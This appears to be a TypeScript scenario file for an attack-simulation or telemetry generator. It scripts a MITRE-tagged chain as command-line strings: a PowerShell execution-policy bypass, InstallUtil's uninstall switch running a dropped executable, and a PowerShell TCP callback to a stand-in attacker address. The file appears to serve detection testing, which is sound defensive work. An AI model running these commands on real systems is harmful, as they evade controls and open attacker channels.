import { installutil } from '../programs/proxies'
import { powershell } from '../programs/windows'
import { type AttackStory, atDesk } from './story'

/** An assembly whose uninstaller is the payload. */
export const assemblyUninstall: AttackStory = {
  name: 'assembly-uninstall',
  technique: 'T1218.004',
  quiet: false,
  days: 1,
  victims: 1,
  suits: atDesk,
  run: (stage) => {
    const { day, campaign } = stage
    const shell = stage.act('T1059.001', 0, day.shell, powershell, '"powershell.exe" -ep bypass')
    const loader = stage.act(
      'T1218.004',
      20,
      shell,
      installutil,
      `"${installutil.path}" /logfile= /LogToConsole=false /U C:\\Users\\${day.person}\\AppData\\Roaming\\${campaign.word(6)}\\${campaign.word(5)}.exe`,
    )
    stage.act(
      'T1059.001',
      25,
      loader,
      powershell,
      'powershell.exe -nop -c "$c=[Net.Sockets.TcpClient]::new(\'198.51.100.7\',443)"',
    )
  },
}
